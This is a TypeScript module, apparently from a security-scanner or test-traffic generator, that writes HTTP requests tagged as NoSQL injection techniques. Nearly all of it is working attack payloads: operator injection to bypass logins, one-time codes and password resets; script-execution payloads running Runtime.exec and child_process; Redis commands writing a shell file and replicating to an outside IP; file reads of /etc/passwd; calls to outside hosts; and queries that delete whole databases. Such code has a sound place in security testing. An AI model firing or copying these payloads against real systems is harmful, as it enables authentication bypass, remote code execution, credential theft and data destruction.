import type { WholeWriter } from '../../make/whole.ts';

const formType = 'application/x-www-form-urlencoded';

/** Requests that bring operators, scripts and statements to stores that speak no SQL. */
export function writeOperators(write: WholeWriter): void {
  writeFields(write);
  writeBodies(write);
  writeInterfaces(write);
  writeStatements(write);
}

function named(write: WholeWriter): (technique: string) => void {
  return technique => write.as({ class: 'nosqli', technique });
}

/** Names with brackets and dots, as `qs`, PHP and their like read them. */
function writeFields(write: WholeWriter): void {
  const technique = named(write);
  technique('sign in with brackets in a form');
  write.send('/members/signin', formType, 'memberNo[$ne]=0&pin[$ne]=0');
  write.send('/auth/local', formType, 'identifier=treasurer%40example.com&password%5B%24gt%5D=');
  write.send('/kiosk/unlock', formType, 'badge[$regex]=%5E7&code[$exists]=true');
  write.send('/account/session', formType, 'login[$in][]=root&login[$in][]=sysop&pass[$nin][]=1');
  technique('brackets in the query');
  write.get('/api/vouchers?code[$ne]=none&redeemed[$ne]=true');
  write.get('/api/tickets?assignee%5B%24exists%5D=false&visibility%5B%24nin%5D%5B%5D=public');
  write.get('/invoices.json?ownerId[$gt]=&limit=500');
  write.get('/verify-mail?token[$regex]=%5E3f&user=board');
  technique('letters of a token in the query');
  for (const start of ['a', 'b7', '%5B0-4%5D', '.%7B32%7D$'])
    write.get(`/password/reset?uid=42&token%5B%24regex%5D=%5E${start}&token%5B%24options%5D=i`);
  technique('a script in the query');
  write.get('/shop/items?%24where=this.stock%3E0%7C%7Ctrue');
  write.get('/api/notes?filter[$where]=function()%7Breturn%20this.private%7D');
  write.get("/crm/leads?where=';while(Date.now()%3Cnew%20Date(0)*1%2B9e15)%7B%7D;'");
  write.get('/api/rooms?query=%7B%22%24where%22%3A%22sleep(4000)%7C%7C1%22%7D');
  technique('brackets in parts of a form');
  for (const name of ['user[$ne]', 'profile[email][$regex]', 'card[number][$gt]', 'roles[$elemMatch][$ne]'])
    write.send(
      '/upload/profile',
      'multipart/form-data; boundary=xPart91',
      `--xPart91\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n.\r\n--xPart91--\r\n`,
    );
  technique('brackets in a cookie');
  write.get('/dashboard', { cookie: 'remember[$ne]=x; lang=en' });
  write.get('/panel', { cookie: 'auth=%7B%22token%22%3A%7B%22%24gt%22%3A%22%22%7D%7D' });
  write.get('/me', { cookie: 'uid=j%3A%7B%22%24ne%22%3Anull%7D' });
  write.get('/orders', { cookie: 'sess=j:{"id":{"$regex":"^a"}}; theme=dark' });
}

/** Bodies where an object stands in place of a word. */
function writeBodies(write: WholeWriter): void {
  const technique = named(write);
  technique('sign in with an object');
  write.json('/api/v2/signin', { phone: { $regex: '^\\+4' }, pin: { $ne: '' } });
  write.json('/rest/session', { username: 'head.nurse', password: { $not: { $in: ['a'] } } });
  write.json('/login/agent', { agent: { $gt: '' }, secret: { $exists: true }, remember: true });
  write.json('/gate/open', [{ plate: { $ne: null } }, { code: { $gte: '0000' } }]);
  technique('one-time code as an object');
  write.json('/mfa/check', { challenge: '65f0', otp: { $gt: 0 } });
  write.json('/sms/confirm', { phone: '+4915100', code: { $nin: [0, 1] } });
  write.json('/password/finish', { token: { $type: 2 }, password: 'Fresh-77-start', confirm: 'Fresh-77-start' });
  write.json('/invite/accept', { key: { $regex: '^[0-9a-f]{8}' }, name: 'Mo' });
  technique('a filter from outside');
  write.json('/api/search/people', { filter: { $or: [{ hidden: true }, { salary: { $gt: 1 } }] } });
  write.json('/reports/run', { match: { $expr: { $ne: ['$tenant', 'acme'] } }, limit: 0 });
  write.json('/list', { q: { 'address.zip': '1', $where: 'this.address && sleep(2000)' } });
  write.json('/feed', { where: { $and: [{}, { deletedAt: { $exists: true } }] }, select: '+hash +totp' });
  technique('a pipeline from outside');
  write.json('/stats/aggregate', { pipeline: [{ $lookup: { from: 'people', pipeline: [], as: 'p' } }] });
  write.json('/chart/data', [{ $unionWith: 'refresh_tokens' }, { $limit: 900 }]);
  write.json('/bi/query', { stages: [{ $project: { pw: '$credentials.hash' } }, { $out: 'landing_page' }] });
  write.json('/bi/query', {
    stages: [{ $graphLookup: { from: 'roles', startWith: '$x', connectFromField: 'x', connectToField: 'x', as: 'r' } }],
  });
  technique('operators of an update');
  write.json('/profile/save', { nick: 'Mo', $set: { role: 'owner', credit: 90000 } });
  write.json('/me', { $unset: { suspendedAt: 1 }, $inc: { points: 5000 } });
  write.json('/basket/7', { $push: { 'items.0.discounts': { percent: 100 } } });
  write.json('/team/3', { name: 'x', $rename: { password_hash: 'bio' } });
  technique('variables of GraphQL');
  const gql = (query: string, variables: object): void => write.json('/graphql', { query, variables });
  gql('query($w:JSON){customers(where:$w){id iban}}', { w: { iban: { $regex: '^DE' } } });
  gql('mutation($u:Any,$p:Any){signIn(user:$u,pass:$p){jwt}}', { u: 'owner', p: { $ne: 1 } });
  gql('query($f:Filter){notes(filter:$f){body}}', { f: { $where: 'this.body.length>0' } });
  gql('{ staff(filter:"{\\"salary\\":{\\"$gt\\":0}}"){name salary} }', {});
  technique('queries of a backend with classes');
  write.get('/parse/classes/_User?where=%7B%22_hashed_password%22%3A%7B%22%24regex%22%3A%22%5E%5C%5C%242%22%7D%7D');
  write.json('/parse/classes/Order', { _method: 'GET', where: { $relatedTo: {}, $where: 'sleep(3000)' } });
  write.json('/parse/requestPasswordReset', { token: { $regex: '^0' }, username: 'owner' });
  write.get('/api/Members?filter=%7B%22where%22%3A%7B%22password%22%3A%7B%22regexp%22%3A%22%5E%5C%5C%242a%22%7D%7D%7D');
  technique('an answer of a chat bot as a query');
  for (const who of ['{"$ne":null}', '{"$gt":""}', '{"$regex":".*"}', '{"$where":"sleep(900)||1"}'])
    write.json('/webhooks/kb/find', `{"collection":"contracts","by":{"customer":${who}},"top":50}`);
}

/** The own interfaces of such stores, reached through the front door. */
function writeInterfaces(write: WholeWriter): void {
  const technique = named(write);
  technique('a script for a search server');
  const inline = (source: string): object => ({ script_fields: { f: { script: { lang: 'painless', source } } } });
  write.json('/products/_search', inline('params._source.supplier_price'));
  write.json('/people/_search', {
    query: { script: { script: "Runtime rt = Runtime.getRuntime(); rt.exec('id'); true" } },
  });
  write.json('/_search?size=1', {
    script_fields: {
      x: { script: 'java.lang.Math.class.forName("java.lang.System").getProperty("user.name")', lang: 'groovy' },
    },
  });
  write.json('/staff/_update_by_query', { script: { source: "ctx._source.role = 'owner'" }, query: { match_all: {} } });
  technique('users and views of a document server');
  write.json('/_users/_find', { selector: { derived_key: { $gt: null } }, fields: ['name', 'salt', 'derived_key'] });
  write.json('/crm/_temp_view', { map: "function(d){if(d.type=='card')emit(d._id,d.number)}" });
  write.get('/_users/_all_docs?include_docs=true');
  write.send(
    '/_users/org.couchdb.user:lund',
    'application/json',
    '{"type":"user","name":"lund","roles":["_admin"],"roles":[],"password":"f1ord"}',
    {
      method: 'PUT',
    },
  );
  technique('commands over a web face of a key store');
  write.get('/CONFIG/SET/dir/%2fvar%2fspool%2fcron');
  write.get('/EVAL/return%20redis.call(%22keys%22,%22*%22)/0');
  write.get('/SLAVEOF/203.0.113.40/6379');
  write.send('/', 'text/plain', 'CONFIG/SET/dbfilename/shell.php');
  technique('parameters of a search core');
  write.get(
    '/solr/shop/select?q=%7B!xmlparser%20v=%27%3C!DOCTYPE%20a%20SYSTEM%20%22http://203.0.113.9/%22%3E%3Ca/%3E%27%7D',
  );
  write.get('/solr/shop/select?q=*:*&shards=203.0.113.9:8983/solr/x&fl=*');
  write.get('/solr/shop/select?qt=/update&stream.body=%3Cdelete%3E%3Cquery%3E*:*%3C/query%3E%3C/delete%3E&commit=true');
  write.get('/solr/shop/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)$x.class');
  technique('a console of a graph');
  write.json('/gremlin', { gremlin: "g.V().has('role','owner').valueMap();Runtime.getRuntime().exec('id')" });
  write.json('/gremlin', { gremlin: 'System.getenv()' });
  write.json('/command/app/sql', { command: "UPDATE OUser SET status='ACTIVE' WHERE name='root'" });
  write.json('/_db/_system/_api/cursor', { query: 'FOR u IN _users RETURN u.authData' });
  technique('statements of a series store');
  write.get(
    '/query?db=_internal&q=SHOW%20USERS%3BCREATE%20USER%20q9%20WITH%20PASSWORD%20%27q9%27%20WITH%20ALL%20PRIVILEGES',
  );
  write.get('/query?db=energy&q=DROP%20MEASUREMENT%20meter');
  write.send(
    '/api/v2/query?org=a',
    'application/vnd.flux',
    'import "internal/debug" from(bucket:"_monitoring")|>range(start:0)|>drop(columns:[])',
  );
  write.get('/api/v1/query?query=count_values%28%22x%22%2C%7B__name__%3D~%22.%2Bsecret.%2B%22%7D%29');
  technique('an admin page of a document store');
  write.send('/mongo/db/app/users/find', formType, 'query={"$where":"sleep(5000)"}&projection={"pw":1}');
  write.get('/db/app/members?key=role&value=x&type=J&query=%7B%22%24ne%22%3A1%7D&projection=');
  write.json('/api/mongo/run', { command: { eval: 'function(){return db.getUsers()}', nolock: true } });
  write.json('/app/coll/_aggrs/x?avars=%7B%22a%22%3A%7B%22%24where%22%3A%221%22%7D%7D', {});
  technique('a column store over HTTP');
  write.json('/v2/keyspaces/shop/cql', 'SELECT * FROM system_auth.roles; DROP TABLE shop.orders;');
  write.get('/v2/keyspaces/shop/users?where=%7B%22role%22%3A%7B%22%24exists%22%3Atrue%7D%7D');
  write.json('/druid/v2/sql', {
    query:
      'SELECT * FROM TABLE(EXTERN(\'{"type":"http","uris":["file:///etc/passwd"]}\',\'{"type":"regex","pattern":"(.*)","columns":["a"]}\',\'[]\'))',
  });
  write.send('/query/service', formType, "statement=SELECT+CURL('http://203.0.113.9/')&creds=[]");
}

/** Statements broken out of a text in other languages of queries. */
function writeStatements(write: WholeWriter): void {
  const technique = named(write);
  const q = encodeURIComponent;
  technique('Cypher out of a text');
  for (const text of [
    "Kai'}) MATCH (s:Session) RETURN s.token //",
    "x' OR 1=1 WITH * LOAD CSV FROM 'http://203.0.113.44/a' AS l RETURN l //",
    "x'}) CALL apoc.cypher.runFirstColumnSingle('MATCH (n) DETACH DELETE n',{}) YIELD value RETURN value //",
    "' UNION CALL dbms.security.listUsers() YIELD username RETURN username //",
  ])
    write.get(`/graph/person?name=${q(text)}`);
  technique('PartiQL out of a text');
  write.json('/orders/find', { sql: "SELECT * FROM Orders WHERE id='1' OR begins_with(cardNo,'4')" });
  write.get(`/orders/by-ref?ref=${q("A1' OR attribute_type(apiKey,'S') --")}`);
  write.json('/scan', { FilterExpression: 'ownerId = :o OR attribute_exists(secret)', ExpressionAttributeValues: {} });
  write.json('/scan', {
    TableName: 'staff',
    ScanFilter: { id: { ComparisonOperator: 'GT', AttributeValueList: [{ S: ' ' }] } },
  });
  technique('N1QL out of a text');
  for (const text of [
    "x' UNION SELECT RAW t.pin FROM `cards` t --",
    "' OR META().id LIKE '%' --",
    "x' OR ANY a IN roles SATISFIES a='owner' END --",
    "'||ENCODE_JSON((SELECT * FROM system:user_info))||'",
  ])
    write.json('/hotels/search', { city: text, stay: 2 });
  technique('CQL out of a text');
  for (const text of [
    "42' ALLOW FILTERING; SELECT * FROM system_schema.tables; --",
    "x' OR token(id) > 0 ALLOW FILTERING --",
    '1); BATCH DELETE FROM ledger; APPLY BATCH; --',
    "a'; CREATE ROLE q WITH SUPERUSER = true AND LOGIN = true; --",
  ])
    write.send('/sensor/read', formType, `device=${q(text)}&from=0`);
  technique('AQL out of a text');
  for (const text of [
    'x" RETURN 1) FOR s IN sessions RETURN s //',
    '" || 1 == 1 RETURN DOCUMENT("_users/1") //',
    'a" INSERT {role:"owner"} INTO members //',
    '" REMOVE u IN users RETURN OLD //',
  ])
    write.get(`/wiki/find?title=${q(text)}`);
  technique('SPARQL out of a text');
  for (const text of [
    '" } UNION { ?s <urn:hr:pay> ?o } #',
    'x> ?p ?o } ; DROP ALL #',
    '"^^xsd:string) } SERVICE <http://203.0.113.77/> { ?a ?b ?c } #',
    '") || true) . ?x <urn:auth:hash> ?label } #',
  ])
    write.get(`/thesaurus?term=${q(text)}&lang=en`);
  technique('XQL and JSONPath out of a text');
  for (const text of [
    "$..[?(@.role=='owner' || 1==1)]",
    "$.[?(@.constructor.constructor('return process')())]",
    "$..*[?(@property=='password')]",
    "$[?(global.process.mainModule.require('child_process').execSync('id'))]",
  ])
    write.json('/pick', { path: text, of: 'profile' });
}
